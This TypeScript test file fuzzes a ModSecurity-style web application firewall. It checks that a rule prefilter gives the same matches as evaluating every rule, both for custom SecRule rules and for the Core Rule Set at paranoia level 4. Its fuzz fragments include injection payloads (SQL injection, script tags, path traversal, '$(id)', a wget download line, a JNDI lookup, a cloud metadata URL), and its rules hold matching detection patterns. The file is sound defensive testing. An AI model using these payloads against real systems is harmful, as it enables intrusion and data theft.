import assert from 'node:assert/strict'
import { test } from 'node:test'
import fc from 'fast-check'
import type { RuleSet } from '../api.ts'
import { ask, coreRules, rulesOf, type Asked } from './run.fixture.ts'

const FRAGMENTS = [
  "' OR 1=1--",
  'union select',
  '<script>alert(1)</script>',
  'onerror=',
  'javascript:',
  '/etc/passwd',
  '../../',
  ';cat ',
  '$(id)',
  '`id`',
  'wget http://192.0.2.9/x',
  '<?php system(',
  'base64_decode(',
  '${jndi:ldap://x}',
  'java.lang.Runtime',
  '{{7*7}}',
  'http://169.254.169.254/',
  '\r\nSet-Cookie: a=b',
  '%252e%252e%252f',
  '&lt;img src=x&gt;',
  String.raw`\u003cscript\u003e`,
  'SLEEP(5)',
  '/**/',
  'exec xp_cmdshell',
  '.htaccess',
  'plain words of a note',
  '\0',
  '\xFF\xFE',
  'A',
  ' ',
  "'",
  '"',
  '(',
  '=',
]
const text = fc.array(fc.constantFrom(...FRAGMENTS), { maxLength: 4 }).map((parts) => parts.join(''))
/** Long texts are asked about in another way than short ones. */
const PROSE = 'a quiet harbour keeps many small boats that wait through winter until spring '.repeat(9)
const value = fc.oneof(
  { weight: 4, arbitrary: text },
  { weight: 4, arbitrary: text.map(encodeURIComponent) },
  { weight: 4, arbitrary: text.map((plain) => plain.toUpperCase()) },
  { weight: 1, arbitrary: text.map((plain) => `${PROSE}${plain}${PROSE}`) },
)
const encoded = value.map((plain) => encodeURIComponent(plain))

const asked: fc.Arbitrary<Asked> = fc
  .record({
    query: encoded,
    name: encoded,
    agent: value,
    cookie: value,
    body: encoded,
    path: encoded,
    page: value,
  })
  .map(({ query, name, agent, cookie, body, path, page }) => ({
    method: 'POST',
    target: `/${path}?q=${query}&${name}=1`,
    headers: [
      'Host',
      'localhost',
      'User-Agent',
      agent,
      'Cookie',
      `c=${cookie}`,
      'Content-Type',
      'application/x-www-form-urlencoded',
    ],
    body: `b=${body}`,
    response: { body: page },
  }))

function sameMatches(quick: RuleSet, plain: RuleSet, request: Asked): void {
  const left = ask(quick, request).report
  const right = ask(plain, request).report
  assert.deepEqual(left.matches, right.matches)
  assert.deepEqual(left.scores, right.scores)
  assert.deepEqual(left.wouldBlock, right.wouldBlock)
}

test('what the prefilter leaves out never matches: rules of every kind of operator', () => {
  const rules = String.raw`
    SecRule ARGS|REQUEST_HEADERS "@rx (?i)union\s+select" "id:1,phase:2,pass,capture,t:none,t:urlDecodeUni,t:lowercase"
    SecRule ARGS|REQUEST_COOKIES "@pm script passwd jndi:" "id:2,phase:2,pass,t:none,t:removeNulls"
    SecRule ARGS "@rx ['\"(=]" "id:3,phase:2,pass,t:none,t:htmlEntityDecode,multiMatch"
    SecRule ARGS "!@rx ^[a-z ]*$" "id:4,phase:2,pass"
    SecRule REQUEST_URI|ARGS_NAMES "@contains ../" "id:5,phase:1,pass,t:none,t:urlDecode"
    SecRule ARGS "@beginsWith $(" "id:6,phase:2,pass,chain"
      SecRule MATCHED_VARS "@endsWith )"
    SecRule ARGS "@validateByteRange 32-126" "id:7,phase:2,pass"
    SecRule ARGS "@rx ^(?:plain|union) [a-z]+ [os]" "id:9,phase:2,pass,t:none,t:urlDecodeUni"
    SecRule ARGS|ARGS_NAMES "@rx ^(?:plain|';|..e)" "id:10,phase:2,pass,t:none,t:lowercase,t:compressWhitespace"
    SecRule RESPONSE_BODY "@rx (?:script|java)[^a]" "id:8,phase:4,pass,t:none,t:compressWhitespace"`
  const quick = rulesOf(rules)
  const plain = rulesOf(rules, undefined, { everyRule: true })
  fc.assert(
    fc.property(asked, (request) => sameMatches(quick, plain, request)),
    { numRuns: 60 },
  )
})

test('what the prefilter leaves out never matches: the Core Rule Set at paranoia level 4', (t) => {
  const level = 'SecAction "id:7,phase:1,pass,nolog,setvar:tx.blocking_paranoia_level=4"'
  const quick = coreRules(level)?.variant({ mode: 'detect' })
  const plain = coreRules(level, { everyRule: true })?.variant({ mode: 'detect' })
  if (quick === undefined || plain === undefined) {
    t.skip('SURETY_PUBLIC_DATA names no folder with the Core Rule Set')
    return
  }
  fc.assert(
    fc.property(asked, (request) => sameMatches(quick, plain, request)),
    { numRuns: 30 },
  )
})
